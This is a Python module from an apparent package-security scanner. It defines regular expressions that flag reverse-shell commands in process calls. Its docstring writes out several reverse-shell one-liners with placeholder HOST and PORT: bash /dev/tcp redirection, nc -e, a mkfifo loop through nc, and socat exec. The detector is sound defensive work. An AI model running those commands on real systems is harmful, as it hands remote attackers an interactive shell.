"""A command that hands a shell to another host (issue 16; ADR 0167).

A reverse shell connects out and wires a shell's input and output to the connection:
``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``nc -e /bin/sh HOST PORT``, a named pipe looped
through ``nc`` (``mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f``),
``socat exec:sh tcp:HOST:PORT``. No build step, import or library call starts one, so the
scorer denies it at any moment, inside a function too; the same shell in Python (a socket,
``os.dup2`` and ``pty.spawn``) is judged by the flow pass's ``shell-spawn`` chain.

What it deliberately does not cover: a listener a package's user starts on purpose
(``nc -l``), a shell run over ``ssh`` (an administration tool's job), and commands it
cannot read (built from values the pass does not fold).
"""

from __future__ import annotations

import re

from airlock.imports.packages.lazyre import LazyPattern

# Bash's own network redirection, the shell's stream sent to a host's port.
_DEV_TCP = r"/dev/(?:tcp|udp)/[^/\s]+/\d+"
# netcat asked to run a program on the connection (``-e``/``-c``, ncat's ``--exec``/``--sh-exec``).
_NC_EXEC = r"\b(?:nc|ncat|netcat)(?:\.exe)?\b[^|;&\n]*\s(?:-[a-z]*[ec]|--(?:sh-)?exec)\b"
# An interactive shell piped to or from a connecting tool (the named-pipe loop).
_SHELL = r"(?:\S*/)?(?:ba|z|da|k)?sh\s+-i\b"
_CONNECTOR = r"\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b"
_PIPED = rf"{_SHELL}[^;\n]*\|\s*(?:\S*/)?{_CONNECTOR}|{_CONNECTOR}[^;\n]*\|\s*{_SHELL}"
# socat joining a program to a TCP stream in either order.
_RUN = r"\b(?:exec|system):"
_TCP = r"\btcp[46]?:"
_SOCAT = rf"\bsocat\b[^;\n]*(?:{_RUN}[^;\n]*{_TCP}|{_TCP}[^;\n]*{_RUN})"

REVERSE_SHELL = LazyPattern(
    "|".join((_DEV_TCP, _NC_EXEC, _PIPED, _SOCAT)), re.IGNORECASE | re.DOTALL
)


def reverse_shell(command: str) -> bool:
    """Whether ``command`` (a process call's folded text) wires a shell to a connection."""
    return REVERSE_SHELL.search(command) is not None
